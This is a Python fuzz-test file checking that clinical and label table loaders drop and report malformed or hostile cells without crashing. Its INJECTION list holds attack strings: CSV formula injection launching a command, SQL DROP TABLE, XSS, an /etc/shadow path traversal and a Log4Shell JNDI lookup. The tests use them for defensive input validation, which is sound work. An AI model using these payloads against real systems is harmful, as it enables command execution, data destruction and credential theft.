"""Hostile clinical and label tables: typed errors or per-cell issues, never a crash.

Cells hold NaN/inf/huge numbers, unicode, control characters and injection strings;
files hold arbitrary bytes. Outcome contract (``fuzz.targets.check_tables``): a
``TableError`` naming the file, or rows whose values are all finite and valid, with
every dropped cell reported by row and field. Free text from a cell never reaches the
clinical paragraph the model reads.
"""

import csv
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from client.clinical_table import load_clinical_table
from client.labels_table import load_labels_table
from client.tables import TableError
from fuzz.targets import (
    CLINICAL_COLUMNS,
    check_tables,
    clinical_source,
    labels_source,
    table_one_input,
)

SETTINGS = settings(
    max_examples=30,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
INJECTION = (
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "'; DROP TABLE patients; --",
    "<img src=x onerror=alert(1)>",
    "../../../etc/shadow",
    "\u202eLAMRON",
    "${jndi:ldap://x/a}",
    "Robert'); --",
)
NUMBERS = ("nan", "NaN", "inf", "-inf", "1e400", "-1e400", "1e308", "-0", "0x1F")
COLUMNS = (
    "pid",
    "eid",
    *CLINICAL_COLUMNS.values(),
    "heart",
    "emph",
    "event",
    "follow",
)
CELL = st.one_of(
    st.sampled_from(INJECTION + NUMBERS + ("", " ", "1", "2", "0", "yes", "72")),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.text(max_size=24),
)
ROW = st.fixed_dictionaries({c: CELL for c in COLUMNS})


def _write(path: Path, rows: list[dict[str, str]]) -> Path:
    if path.suffix == ".csv":
        with path.open("w", newline="", encoding="utf-8") as fh:
            writer = csv.DictWriter(fh, COLUMNS, quoting=csv.QUOTE_ALL)
            writer.writeheader()
            writer.writerows(rows)
    elif path.suffix == ".parquet":
        pd.DataFrame(rows, columns=list(COLUMNS)).to_parquet(path)
    else:  # Excel cannot store control characters: drop them, as a site export would
        clean = [
            {k: "".join(ch for ch in v if ch.isprintable()) for k, v in r.items()}
            for r in rows
        ]
        pd.DataFrame(clean, columns=list(COLUMNS)).to_excel(path, index=False)
    return path


@SETTINGS
@given(
    rows=st.lists(ROW, min_size=1, max_size=6),
    suffix=st.sampled_from([".csv", ".parquet", ".xlsx"]),
)
def test_hostile_cells_are_dropped_and_reported(tmp_path, rows, suffix):
    path = _write(tmp_path / f"t{suffix}", rows)
    check_tables(path)
    try:
        clinical, issues = load_clinical_table(clinical_source(path))
    except TableError:
        return
    for row in clinical.values():
        for bad in INJECTION:
            assert bad not in row.text
        assert all(
            not isinstance(v, float) or math.isfinite(v) for v in row.record.values()
        )
    for issue in issues:
        assert issue.row >= 1 and issue.field and issue.path == str(path)


@SETTINGS
@given(data=st.binary(max_size=2000))
def test_arbitrary_bytes_as_any_table_type(data):
    table_one_input(data)


@pytest.mark.parametrize(
    ("column", "value", "field"),
    [
        ("age", "1e400", "age"),
        ("age", "nan", "age"),
        ("age", "", None),  # empty is a missing value, not an error
        ("height", "inf", "height"),
        ("weight", "-5", "weight"),
        ("sex", "=cmd|' /C calc'!A0", "gender"),
    ],
)
def test_absurd_clinical_values_name_the_row_and_field(tmp_path, column, value, field):
    row = {c: "" for c in COLUMNS} | {"pid": "P1", "eid": "E1", "age": "61"}
    row |= {"sex": "1", "height": "170", "weight": "70", column: value}
    path = _write(tmp_path / "c.csv", [row])
    clinical, issues = load_clinical_table(clinical_source(path))
    record = clinical[("P1", "E1")].record
    invalid = [i for i in issues if i.code == "invalid_value"]
    if field is None:
        assert not invalid
    else:
        assert [(i.row, i.field) for i in invalid] == [(1, field)]
        assert field not in record
    assert record.get("age") in (None, 61, 61.0) or column == "age"


@pytest.mark.parametrize(
    ("event", "follow"),
    [
        ("nan", "6"),
        ("inf", "6"),
        ("1e400", "1e400"),
        ("-1", "3"),
        ("5", "2"),
        ("x", ""),
    ],
)
def test_absurd_hazard_labels_are_omitted_with_a_reason(tmp_path, event, follow):
    row = {c: "" for c in COLUMNS} | {"pid": "P1", "eid": "E1", "heart": "1"}
    row |= {"event": event, "follow": follow}
    path = _write(tmp_path / "l.csv", [row])
    labels, issues = load_labels_table(labels_source(path))
    assert labels[("P1", "E1")] == {"heart": 1}
    assert [(i.code, i.field) for i in issues] == [("invalid_label", "cancer_risk")]


def test_unreadable_table_is_a_typed_error_naming_the_file(tmp_path):
    path = tmp_path / "c.xlsx"
    path.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(TableError, match=str(path)):
        load_clinical_table(clinical_source(path))
